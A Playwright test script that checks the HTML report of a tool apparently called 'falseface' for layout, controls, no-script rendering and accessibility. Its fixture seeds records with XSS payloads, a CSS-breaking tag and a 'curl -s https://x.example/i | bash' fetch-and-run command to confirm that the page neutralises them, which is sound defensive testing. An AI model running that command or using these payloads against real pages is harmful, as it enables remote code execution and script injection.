// The page for reviewers in Chromium: three sizes, light and dark, with scripts and without, printed, clicked through, and
// held against the rules of axe-core (WCAG 2 AA). Takes the program as its argument, and prints what it found wrong.

import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";

const program = process.argv[2] ?? "target/debug/falseface";
const folder = mkdtempSync(join(tmpdir(), "falseface-page-"));
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const wrong = [];
const check = (holds, what) => { if (!holds) wrong.push(what); };

const scan = (inputs, name) => {
  const page = join(folder, name);
  execFileSync(program, ["scan", ...inputs, "--format", "html", "-o", page, "--quiet", "--now", "2026-11-25T12:00:00Z"]);
  return `file://${page}`;
};

// Two hundred and fifty people, so that there is a second page of them, whose text tries to be more than text.
const hostile = [
  "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "</style><style>*{display:none}",
  "\u202Egnp.exe", "W".repeat(5000),
];
const people = Array.from({ length: 250 }, (_, number) => JSON.stringify({
  schema: "falseface.dossier/1", id: `h${number}`, role: "recruiter",
  subject: { names: [{ value: `${hostile[number % hostile.length]} ${number}` }] },
  messages: [{ from_subject: true, at: "2026-02-01T10:00:00Z", thread: "t",
    text: `${hostile[number % hostile.length]} Paste this command into your terminal: curl -s https://x.example/i | bash` }],
}));
writeFileSync(join(folder, "hostile.jsonl"), people.join("\n"));

const pages = { samples: scan(["samples"], "samples.html"), points: scan(["samples", "--points", "--order", "urgency"], "points.html"), hostile: scan([join(folder, "hostile.jsonl")], "hostile.html") };
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync"],
});

const open = async (url, options) => {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  page.on("dialog", (dialog) => { wrong.push(`a dialog opened: ${dialog.message()}`); dialog.dismiss(); });
  page.on("pageerror", (error) => wrong.push(`an error of the script: ${error}`));
  page.on("console", (message) => { if (message.type() === "error") wrong.push(`on the console: ${message.text()}`); });
  page.on("request", (request) => { if (request.url() !== url) wrong.push(`it asked for ${request.url()}`); });
  await page.goto(url);
  return { context, page };
};
const visible = (page) => page.$$eval("#table tbody tr", (rows) => rows.filter((row) => !row.hidden).length);

for (const [name, url] of Object.entries(pages)) {
  for (const [size, width, height, colorScheme] of [["desk", 1280, 900, "light"], ["tablet", 800, 1000, "dark"], ["phone", 390, 844, "light"]]) {
    const { context, page } = await open(url, { viewport: { width, height }, colorScheme });
    const over = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    check(over <= 0, `${name} on a ${size} is ${over} pixels too wide`);
    const spilt = await page.$$eval("#table tr:not([hidden]) > *", (cells) => cells.filter((cell) => cell.scrollWidth > cell.clientWidth + 1).map((cell) => cell.textContent));
    check(spilt.length === 0, `${name} on a ${size} spills out of its cells: ${spilt.slice(0, 3)}`);
    const narrow = await page.$$eval("#table tr:not([hidden]) > *", (cells) => cells.filter((cell) => cell.clientWidth > 0 && cell.clientWidth < 56 && cell.textContent.length > 4).map((cell) => cell.textContent));
    check(narrow.length === 0, `${name} on a ${size} has cells that take no word: ${narrow.slice(0, 3)}`);
    if (process.env.SHOTS) await page.screenshot({ path: join(process.env.SHOTS, `${name}-${size}.png`) });
    await context.close();
  }
}

{
  const { context, page } = await open(pages.samples, { viewport: { width: 1280, height: 900 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const all = await visible(page);
  await page.selectOption("#only", "escalate");
  const some = await visible(page);
  const verdicts = await page.$$eval("#table tbody tr", (rows) => rows.filter((row) => !row.hidden).map((row) => row.dataset.v));
  check(some > 0 && some < all && verdicts.every((verdict) => verdict === "escalate"), "the filter shows one verdict");
  await page.selectOption("#only", "");
  await page.fill("#search", "stefan smithfield");
  check(await visible(page) === 1, "the search finds one person");
  await page.fill("#search", "");
  const names = () => page.$$eval("#table tbody th", (cells) => cells.map((cell) => cell.textContent.toLowerCase()));
  const input = await names();
  await page.click("#table thead th:first-child button");
  const sorted = await names();
  check(String(sorted) === String([...sorted].sort((a, b) => a.localeCompare(b))) && String(sorted) !== String(input), "names sort");
  await page.click("#table thead th:first-child button");
  check(String(await names()) === String([...sorted].reverse()), "and the other way");
  check(await page.getAttribute("#table thead th:first-child", "aria-sort") === "descending", "and say so");
  await page.keyboard.press("Tab");
  check(await page.evaluate(() => document.activeElement?.tagName === "BUTTON"), "the keyboard reaches the next column");
  const link = page.locator("#table tbody a").last();
  const place = (await link.getAttribute("href")).slice(1);
  await link.click();
  check(await page.locator(`[id="${place}"] .summary`).isVisible(), "a name leads to its person");
  await page.waitForFunction(() => document.querySelectorAll(".person > noscript").length === 0);
  await page.locator(".ask button").first().click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  check(copied.startsWith("Our records show") && copied === await page.locator(".ask p").first().textContent(), "the question is copied");
  const marked = await page.$$eval("mark", (marks) => marks.length);
  check(marked > 50, "hits are marked");
  await context.close();
}

{
  const { context, page } = await open(pages.hostile, { viewport: { width: 1280, height: 900 } });
  check(await visible(page) === 200, "two hundred people are a page");
  await page.click("#more");
  check(await visible(page) === 250, "and the others follow");
  await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
  const folded = await page.evaluate(() => document.querySelectorAll(".person > noscript, details:not([open])").length);
  check(folded === 0, "everything is printed");
  check(await page.isVisible("h1"), "no style of a record hides the page");
  await context.close();
}

{
  const { context, page } = await open(pages.samples, { javaScriptEnabled: false, viewport: { width: 1280, height: 900 } });
  const rows = await page.locator("#table tbody tr").count();
  check(rows > 100 && await page.locator("#table tbody tr").last().isVisible(), "every row stands there without scripts");
  check(!(await page.isVisible("#controls")), "what needs a script is not shown without");
  check(await page.locator(".person .finding").first().isVisible(), "what it rests on is open without scripts");
  await context.close();
}

for (const colorScheme of ["light", "dark"]) {
  // The tool is not part of the page, so the page's policy has to be set aside for it.
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, colorScheme, bypassCSP: true });
  const page = await context.newPage();
  await page.goto(pages.samples);
  await page.addStyleTag({ content: ".person, .cluster { content-visibility: visible !important }" });
  await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
  await page.evaluate(axe);
  const { violations } = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ["violations"] }));
  for (const { id, help, nodes } of violations) wrong.push(`${colorScheme}: ${id} (${help}) at ${nodes[0].html.slice(0, 200)}`);
  await context.close();
}

await browser.close();
for (const one of wrong) console.error(`wrong: ${one}`);
console.log(wrong.length === 0 ? "the page holds in the browser" : `${wrong.length} things are wrong`);
process.exitCode = wrong.length === 0 ? 0 : 1;
